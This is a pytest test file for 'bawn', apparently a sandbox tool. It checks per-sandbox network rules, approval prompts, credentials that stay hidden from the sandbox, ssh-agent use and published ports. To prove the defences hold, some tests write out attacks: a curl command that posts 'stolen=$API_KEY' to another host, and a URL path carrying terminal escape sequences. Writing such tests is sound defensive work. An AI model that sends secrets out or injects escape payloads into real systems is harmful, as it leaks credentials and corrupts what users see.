# SPDX-License-Identifier: Apache-2.0
"""A kept sandbox and the network: what `bawn exec` reaches, while rules, answers, credentials and helpers come and go between commands.

That the rules, questions, credentials and ports of a run are right is in the files beside this one; here is what is new in a sandbox that stays.
"""

import json
import os
import re
import secrets
import shlex
import shutil
import signal
import subprocess
import time
import uuid

import pytest
import scan
import secret_tools
from inside import until
from ssh_tools import me, server  # noqa: F401

REAL = "real-value-" + secrets.token_hex(20)
KEY = {"hosts": ["ok.example.com"], "header": "x-api-key", "env": ["API_KEY"], "store": "env", "variable": "REAL_KEY"}
OK, OTHER = "http://ok.example.com/", "http://other.example.com/"


class Kept:
    """One named box, driven by `bawn exec`."""

    def __init__(self, net):
        self.net = net
        self.state = net.runner.home / ".local/state/bawn"

    def start(self, *options, allow=(), env=None):
        self.net.save_names()
        rules = [word for host in allow for word in ("--allow", host)]
        r = self.net.bawn("start", "box", *rules, *options, env=env)
        assert (r.rc, r.out) == (0, b"box\n"), r
        return self

    def x(self, script, **kw):
        return self.net.bawn("exec", "box", "--", "sh", "-c", script, **kw)

    def status(self, url, **kw):
        """What curl gets, without the proxy variables: 000 if it cannot even connect."""
        return self.x(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {url}", **kw).out.decode()

    def begin(self, script):
        return self.net.popen(self.net.runner.path, "exec", "box", "--", "sh", "-c", script, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)

    def stop(self):
        r = self.net.bawn("stop", "-t", "0", "box")
        assert r.rc == 0, r

    def keeper(self):
        return self.net.bawn("status", "--json", "box").json()["pid"]

    def helper(self, name):
        """Pid of the gate or the broker, if there is one."""
        for pid in scan.descendants(self.keeper()):
            words = scan.read(f"/proc/{pid}/cmdline").split(b"\0")
            if os.path.basename(words[0]) == name.encode() and (name != "bawn-broker" or b"--serve" in words):
                return pid
        return None

    def audit(self, kind):
        """Its events of a kind, and the log as it is."""
        (path,) = [p for p in (self.state / "audit").glob("bawn-box-*.jsonl")]
        assert self.net.bawn("log", "verify").rc == 0
        return [e for e in map(json.loads, path.read_text().splitlines()) if e["type"] == kind]


@pytest.fixture
def box(net):
    yield Kept(net)
    r = net.bawn("stop", "--all", "-t", "0", "--force")
    assert r.rc == 0, r


def policy(net, *args):
    r = net.bawn("policy", *args)
    assert r.rc == 0, r
    return r


# Rules

def test_rules_change_between_commands(net, box):
    """All commands have the same network; a rule for the sandbox, by its name, holds for the next one and ends with the sandbox."""
    box.start(allow=["ok.example.com"])
    both = [box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OK}") for _ in range(2)]
    assert [p.communicate()[0] for p in both] == [b"200"] * 2
    assert box.status(OTHER) == "403" and net.hits(to="11.0.0.11") == []
    policy(net, "allow", "--sandbox", "box", "other.example.com")
    until(lambda: box.status(OTHER) == "200", "the permission")
    assert b"other.example.com" in policy(net, "ls", "--sandbox", "box").out
    keeper = str(box.keeper())
    assert policy(net, "ls", "--sandbox", keeper).out == policy(net, "ls", "--sandbox", "box").out
    # an open connection of a command in the background ends with the rule
    p = box.begin("exec /usr/bin/python3 -c \"import socket; s = socket.create_connection(('other.example.com', 7)); s.send(b'x'); s.recv(1); "
                  "print('open', flush=True)\ntry: print(s.recv(1))\nexcept OSError as e: print(type(e).__name__)\"")
    assert p.stdout.readline() == b"open\n"
    policy(net, "deny", "--sandbox", "box", "other.example.com")
    assert p.communicate()[0] in (b"b''\n", b"ConnectionResetError\n")
    assert box.status(OTHER) == "403" and box.status(OK) == "200"
    net.rules({"action": "allow", "host": "both.example.com"})  # the user's own file
    until(lambda: box.status("http://both.example.com/") == "200", "the user's rule")
    box.stop()
    box.start()  # its options are kept, the session's rules are not
    assert box.status(OK) == "200" and box.status(OTHER) == "403" and box.status("http://both.example.com/") == "200"
    for name, status, says in (("nosuch", 125, b"no sandbox 'nosuch'"), ("99999999", 64, b"pid 99999999"), ("../x", 64, b"../x")):
        r = net.bawn("policy", "allow", "--sandbox", name, "evil.example.net")
        assert r.rc == status and says in r.err, r
    seen = {(e["action"], e["host"]) for e in box.audit("network")}
    assert {("allow", "ok.example.com"), ("deny", "other.example.com"), ("allow", "other.example.com")} <= seen, seen
    assert all(e["sandbox"].startswith("bawn-box-") for e in box.audit("network"))
    assert {e["sandbox"] for e in net.log()} == {"box"}


def test_the_gate_that_is_killed(net, box):
    """kill -9: nothing gets through meanwhile, and the next connection finds a new one. So it is with the one after that."""
    box.start(allow=["ok.example.com"])
    assert box.status(OK) == "200"
    for _ in range(3):
        gate = box.helper("bawn-gate")
        os.kill(gate, signal.SIGKILL)
        until(lambda: box.status(OK) == "200", "a new gate")
        assert box.helper("bawn-gate") not in (None, gate) and box.status(OTHER) == "403"
    assert net.hits(to="11.0.0.11") == []


# Questions

def pending(net):
    return net.bawn("policy", "pending", "--json").json()


def asks(box):
    return [(e["answer"], e["host"]) for e in box.audit("ask")]


def test_questions(net, box):
    """A command waits; `bawn policy approve` answers, for it alone or until the sandbox ends. Who does not answer says no."""
    box.start("--ask", "wait")
    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OK}")
    (question,) = until(lambda: pending(net))
    assert (question["name"], question["host"], question["port"], question["sandbox"]) == ("box", "ok.example.com", 80, box.keeper())
    assert f"{question['ask']}  box  ok.example.com:80".encode() in policy(net, "pending").out
    assert net.hits() == []
    policy(net, "approve", question["ask"])
    assert p.communicate()[0] == b"200"
    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OK}")
    policy(net, "approve", "--session", until(lambda: pending(net))[0]["ask"])
    assert p.communicate()[0] == b"200" and box.status(OK) == "200"
    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
    policy(net, "reject", until(lambda: pending(net))[0]["ask"])
    assert p.communicate()[0] == b"403" and net.hits(to="11.0.0.11") == []
    # a command that is ended takes its question with it
    p = box.begin("exec /usr/bin/python3 -c \"import socket; socket.create_connection(('other.example.com', 7)).recv(1)\"")
    until(lambda: pending(net))
    p.kill()
    p.communicate()
    until(lambda: not pending(net), "the end of the question")
    box.stop()
    box.start()
    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OK}")
    (question,) = until(lambda: pending(net))  # "until the sandbox ends"
    policy(net, "approve", "--always", question["ask"])
    assert p.communicate()[0] == b"200" and box.status(OK) == "200"
    assert asks(box) == [("once", "ok.example.com"), ("session", "ok.example.com"), ("deny", "other.example.com"), ("always", "ok.example.com")]
    said = [e for e in map(json.loads, (box.state / "audit/user.jsonl").read_text().splitlines()) if e["type"] == "policy"]
    assert [e["what"] for e in said] == ["question approved"] * 2 + ["question rejected", "question approved"]


class Screen:
    """`bawn top` on a terminal that can be read back."""

    def __init__(self, net, *size):
        self.socket = "bawn-kept-" + uuid.uuid4().hex[:8]
        env = [f"{k}={v}" for k, v in {**net.runner.environ(), "TERM": "screen-256color"}.items()]
        command = shlex.join(["env", "-i", *env, *map(str, net.enter(net.runner.path, "top", "--interval", "100ms"))])
        self.tmux("-f", "/dev/null", "new-session", "-d", "-x", str(size[0]), "-y", str(size[1]), command)

    def tmux(self, *args):
        return subprocess.run(["tmux", "-L", self.socket, *args], check=True, capture_output=True, text=True).stdout

    def show(self):
        return self.tmux("capture-pane", "-p")

    def see(self, pattern):
        try:
            return until(lambda: re.search(pattern, text := self.show(), re.M) and text)
        except AssertionError:
            pytest.fail(f"{pattern!r} never came:\n{self.show()}")

    def answer(self, pattern, key):
        """As a person does, who reads the question first (ASKER_DEAF_MS), and tries again if nothing came of it."""
        self.see(pattern)
        while re.search(pattern, self.show(), re.M):
            time.sleep(0.35)
            self.tmux("send-keys", key)
            end = time.monotonic() + 2
            while re.search(pattern, self.show(), re.M) and time.monotonic() < end:
                time.sleep(0.02)

    def close(self):
        subprocess.run(["tmux", "-L", self.socket, "kill-server"], capture_output=True)


@pytest.fixture
def top(net):
    s = Screen(net, 80, 24)
    yield s
    s.close()


def test_questions_in_top(net, box, top):
    """A key there lets the connection through, or not; the verdict scrolls by. Names of hosts and paths stay in their line."""
    net.rules({"action": "ask", "host": "ok.example.com", "paths": ["/a/**"]}, {"action": "allow", "host": "ok.example.com"})
    box.start("--ask", "wait")
    top.see("^box +running")
    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
    top.see("may it connect")
    assert net.hits() == []
    top.answer(r"^box  other.example.com:80  \(\d+ s\)", "o")
    assert p.communicate()[0] == b"200" and len(net.hits(to="11.0.0.11", kind="connect")) == 1
    top.see(r"box  allow  other.example.com:80")
    assert "may it connect" not in top.show()
    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
    top.answer("^box  other.example.com:80", "d")
    assert p.communicate()[0] == b"403"
    top.see(r"box  deny   other.example.com:80")
    # two at once: tab chooses, and only that one is answered
    two = [box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' http://{host}.example.com/") for host in ("other", "both")]
    until(lambda: len(pending(net)) == 2)
    first, second = [q["host"] for q in sorted(pending(net), key=lambda q: q["id"])]
    top.see(f"^box  {second}:80")
    top.tmux("send-keys", "Tab")
    top.answer(f"^box  {second}:80", "s")
    until(lambda: len(pending(net)) == 1)
    assert pending(net)[0]["host"] == first
    top.answer(f"^box  {first}:80", "d")
    assert sorted(p.communicate()[0] for p in two) == [b"200", b"403"]
    # a path that would clear the screen is refused without a question
    assert box.status("-g 'http://ok.example.com/a/%1b[2J%1b[H%0aEVIL'") == "400"
    top.see("box  deny   ok.example.com:80 GET /a/")
    p = box.begin("curl -s --noproxy '*' -o /dev/null -w '%{http_code}' http://ok.example.com/a/%C3%A9")
    top.answer("^box  ok.example.com:80 GET /a/", "w")
    assert p.communicate()[0] == b"200" and box.status("http://ok.example.com/a/%C3%A9") == "200"
    shown = top.show()
    assert shown.startswith("bawn top ") and not re.search("^EVIL", shown, re.M)
    assert [e["what"] for e in map(json.loads, (box.state / "audit/user.jsonl").read_text().splitlines()) if e["type"] == "policy"] == [
        "question approved", "question rejected", "question approved", "question rejected", "question approved"]


def test_a_key_that_came_too_soon(net, box, top):
    """Claim: a key that was pressed before its question could be read answers nothing."""
    box.start("--ask", "wait")
    top.see("^box +running")
    hammered = False
    while not hammered:
        p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
        until(lambda: pending(net))
        looked, sent, shown = time.monotonic(), 0, ""
        while "may it connect" not in shown:  # somebody hammers on the key
            before, looked = looked, time.monotonic()
            shown = top.show()
            top.tmux("send-keys", "o")
            sent = time.monotonic()
        hammered = sent - before < 0.25  # else this machine is too busy to say what came when
        assert not hammered or (len(pending(net)) == 1 and net.hits() == [])
        for question in pending(net):
            policy(net, "reject", question["ask"])
        assert p.communicate()[0] == b"403" or not hammered


# Credentials

def authority(box):
    """The sandbox's own, as programs find it, and as browsers do."""
    r = box.x("sha256sum < /etc/ssl/certs/ca-certificates.crt; certutil -L -d sql:$HOME/.pki/nssdb -n \"$(certutil -L -d sql:$HOME/.pki/nssdb | "
              "sed -n 's/ *[CTcPpuw]*,[CTcPpuw]*,[CTcPpuw]* *$//p' | tail -1)\" -a | openssl x509 -noout -fingerprint -sha256")
    assert r.rc == 0 and b"Fingerprint" in r.out, r
    return r.out.decode().splitlines()


NODE = "fetch('https://ok.example.com/node', {headers: {'x-api-key': process.env.API_KEY}}).then(r => console.log(r.status), e => console.log(String(e.cause)))"
PYTHON = ("import os, urllib.request as u; print(u.build_opener(u.ProxyHandler({})).open(u.Request('https://ok.example.com/python', "
          "headers={'x-api-key': os.environ['API_KEY']})).status)")
# Two programs that find the authority in two ways; node is in no list of packages (it would conflict with one that is not Debian's).
SECOND = f"node -e {shlex.quote(NODE)}" if shutil.which("node") else f"/usr/bin/python3 -c {shlex.quote(PYTHON)}"
REQUESTS = ('curl -sS -o /dev/null -w "%{http_code}\\n" -H "x-api-key: $API_KEY" https://ok.example.com/curl && '
            f"{SECOND}")


def is_nowhere(net, box):
    """In no process of the sandbox, and no file that these see; but the broker has it."""
    needles = scan.Needles(REAL)
    within = scan.processes(box.keeper())
    assert len(within) >= 2
    assert [f for pid, name in within.items() for f in scan.process(pid, name, needles)] + scan.inside(within, needles, net.runner.workspace) == []
    broker = box.helper("bawn-broker")
    assert any("memory" in f for f in scan.process(broker, "bawn-broker", needles)), "the scanner does not find what is there"


def test_credentials_over_a_restart(net, box):
    """Claim: the value is never in a kept sandbox, in its folder or in its logs; the placeholder is the same in its next life, its CA another."""
    secret_tools.define(net, "key", **KEY)
    lives = []
    for _ in range(2):
        box.start(*([] if lives else ["--allow", "ok.example.com"]), env={"REAL_KEY": REAL})
        assert net.bawn("exec", "-d", "box", "--", "sleep", "1000", env={"REAL_KEY": REAL}).rc == 0
        r = box.x(REQUESTS, env={"REAL_KEY": REAL})  # who executes does not bring it in either
        assert (r.rc, r.out) == (0, b"200\n200\n"), r
        assert [dict(h["headers"])["x-api-key"] for h in net.hits(kind="request")] == [REAL] * 2
        if lives:  # with all that the first one left
            is_nowhere(net, box)
        lives.append((box.x("echo $API_KEY").out, *authority(box)))
        net.forget()
        box.stop()
    (first, *old), (second, *new) = lives
    assert first == second and len(first) > 20
    assert old[0] != new[0] and old[1] != new[1], "the certificate authority of the last life is still trusted"
    assert scan.tree(box.state, scan.Needles(REAL)) == [], "it is in a file of ours"
    used = box.audit("secret")
    assert [(e["action"], e["secret"], e["host"]) for e in used] == [("allow", "key", "ok.example.com")] * 4


def test_a_placeholder_elsewhere(net, box):
    """Claim: what leaves with a placeholder to another host is blocked and in the audit log, whichever command sends it."""
    secret_tools.define(net, "key", **KEY)
    box.start(allow=["ok.example.com", "other.example.com"], env={"REAL_KEY": REAL})
    r = box.x('curl -s -o /dev/null -w "%{http_code}" -d "stolen=$API_KEY" https://other.example.com/')
    assert r.out == b"403", r
    word = box.x("echo $API_KEY").out.decode().strip()
    r = box.x(f"curl -s -o /dev/null -w '%{{http_code}}' -d stolen={word} https://other.example.com/")  # on the command line, too
    assert r.out == b"403" and net.hits(kind="request") == [], r
    refused = [e for e in box.audit("network") if e.get("code") == "BAWN_NET_SECRET_MISPLACED"]
    assert [(e["action"], e["host"]) for e in refused] == [("deny", "other.example.com")] * 2
    assert box.status("https://other.example.com/") == "200"


# ssh-agent and ports

def test_ssh_agent(net, box, server, me):
    """The agent of whoever started it: each command can log in, one that was started anew is found again, the keys stay outside."""
    host = "git.example.com"
    me.know(server.known(host, "ed25519"))
    login = f"ssh -o BatchMode=yes git@{host} echo in"
    box.start(allow=[f"{host}:22"], env=me.env)
    before = server.logins()
    for _ in range(2):
        r = box.x(login)
        assert (r.rc, r.out) == (0, b"in\n"), r
    me.stop()
    assert box.x(login).rc == 255 and server.logins() == before + 2
    me.start()
    assert box.x(login).out == b"in\n"
    box.stop()
    box.start(env=me.env)
    assert box.x(login).out == b"in\n" and server.logins() == before + 4
    used = [e for e in box.audit("secret") if e["action"] == "allow"]
    assert [(e["secret"], e["host"]) for e in used] == [(f"ssh {me.fingerprint('me@laptop')}", host)] * 4


SERVE = "exec /usr/bin/python3 -c \"import socket; s = socket.create_server(('127.0.0.1', 3000)); print('up', flush=True)\nwhile True: s.accept()[0].sendall(b'{}')\""


def answer_of(net, port):
    r = net.outside("/usr/bin/python3", "-c", f"""
import socket
try:
    print(socket.create_connection(("127.0.0.1", {port})).recv(100).decode() or "closed")
except OSError as e:
    print(type(e).__name__)
""")
    assert r.rc == 0, r
    return r.out.decode().strip()


def test_published_ports(net, box):
    """They belong to the sandbox, not to a command: the server of one command gives way to the next one's, and both ends are free after a stop."""
    box.start("--publish", "3000:8080")
    for word in ("first", "second"):
        p = box.begin(SERVE.format(word))
        assert p.stdout.readline() == b"up\n"
        assert answer_of(net, 8080) == word
        p.terminate()
        p.communicate()
        assert answer_of(net, 8080) in ("closed", "ConnectionResetError")
    box.stop()
    assert answer_of(net, 8080) == "ConnectionRefusedError"
    box.start()
    p = box.begin(SERVE.format("third"))
    assert p.stdout.readline() == b"up\n" and answer_of(net, 8080) == "third"
    r = net.bawn("start", "thief", "--publish", "3000:8080")
    assert r.rc == 125 and b"8080" in r.err, r
    assert answer_of(net, 8080) == "third"
    p.kill()
    p.communicate()


def test_address_of_a_gate_that_died(net, box):
    """Claim: an address that one gate handed out for a name never means another name at the gate that follows (issue 13, 20)."""
    box.start(allow=["ok.example.com", "other.example.com"])
    old = box.x("/usr/bin/python3 -c 'import socket; print(socket.gethostbyname(\"ok.example.com\"))'").out.decode().strip()
    assert old.startswith("198.1") and box.status(f"-H 'Host: ok.example.com' http://{old}/") == "200"
    net.forget()
    gate = box.helper("bawn-gate")
    os.kill(gate, signal.SIGKILL)
    until(lambda: box.status(OTHER) == "200", "a new gate")
    net.forget()
    for host in ("ok.example.com", "other.example.com"):
        assert box.status(f"-H 'Host: {host}' http://{old}/") in ("000", "403")
    assert net.hits(kind="request") == []
    assert box.status(OK) == "200"
